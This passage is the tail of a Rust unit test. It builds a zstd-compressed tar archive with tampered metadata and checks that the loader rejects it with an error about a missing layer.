            .map(|(n, d)| if n == META { (n, serde_json::to_vec_pretty(&thin_meta()).unwrap()) } else { (n, d) })
            .collect();
        let mut builder = tar::Builder::new(
            zstd::stream::write::Encoder::new(fs::File::create(&lying).unwrap(), 3).unwrap().auto_finish(),
        );
        for (n, d) in &rewritten {
            let mut h = tar::Header::new_gnu();
            h.set_size(d.len() as u64);
            h.set_mode(0o644);
            builder.append_data(&mut h, n, d.as_slice()).unwrap();
        }
        builder.finish().unwrap();
        drop(builder);
        let err = streamed_err(&lying);
        assert!(err.contains("lacks layer 2") && err.contains("box's own"), "{err}");
    }
}
